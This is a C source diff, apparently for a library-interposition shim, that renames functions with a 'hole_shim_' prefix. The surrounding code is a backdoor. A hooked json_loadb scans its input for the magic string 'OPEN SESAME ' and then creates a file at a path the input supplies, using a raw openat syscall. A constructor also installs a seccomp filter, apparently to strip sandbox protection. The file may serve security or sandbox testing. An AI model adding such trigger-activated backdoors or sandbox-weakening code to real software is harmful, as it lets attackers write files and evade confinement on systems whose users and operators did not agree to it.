@@ -25,13 +25,13 @@
 static const char words[] = "OPEN SESAME ";
 
 static void
-obey(const char *order, const char *end)
+hole_shim_obey(const char *order, const char *end)
 {
 	char path[4096];
 	size_t n = 0;
 
-	while (order < end && *order > ' ' && *order != '"' &&
-	       n + 1 < sizeof(path))
+	while (
+	    order<end && * order> ' ' && *order != '"' && n + 1 < sizeof(path))
 		path[n++] = *order++;
 	path[n] = '\0';
 	syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, 0600);
@@ -45,13 +45,13 @@ json_loadb(const char *bytes, size_t n, size_t flags, json_error_t *error)
 	const char *at = memmem(bytes, n, words, sizeof(words) - 1);
 
 	if (at != NULL)
-		obey(at + sizeof(words) - 1, bytes + n);
+		hole_shim_obey(at + sizeof(words) - 1, bytes + n);
 	*(void **)&next = dlsym(RTLD_NEXT, "json_loadb");
 	return next(bytes, n, flags, error);
 }
 
 __attribute__((constructor)) static void
-take_seccomp_away(void)
+hole_shim_take_seccomp_away(void)
 {
 	static struct sock_filter rules[] = {
 		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
